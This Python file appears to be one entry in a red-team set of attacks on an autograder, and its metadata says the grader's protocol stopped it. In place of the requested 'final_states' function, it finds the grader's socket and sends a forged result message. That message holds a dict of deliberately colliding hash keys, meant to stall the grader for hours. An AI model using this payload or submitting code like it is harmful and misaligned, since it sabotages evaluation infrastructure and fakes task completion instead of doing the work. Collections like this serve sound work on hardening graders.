"""Send a dict whose keys all have the same hash, so that building it takes the grader hours.

Seen: the hash-flooding attacks of 2011; own idea here.
"""

# /// attack
# exercise = "07_deep_and_bidirectional/bidirectional_concat"
# stopped_by = "protocol"
# ///

import os
import stat
import struct
import sys

messages = sys.modules["autograder.protocol.messages"]


def channel() -> int:
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1


def frame(payload: bytes) -> None:
    os.write(channel(), struct.pack("<I", len(payload)) + payload)


def final_states(h_n, num_layers):
    keys = [(n * (2**61 - 1), None) for n in range(1, 4)] + [(k, None) for k in range(3000)]
    frame(messages.encode(messages.Returned(messages.DictValue(keys))))
    return None
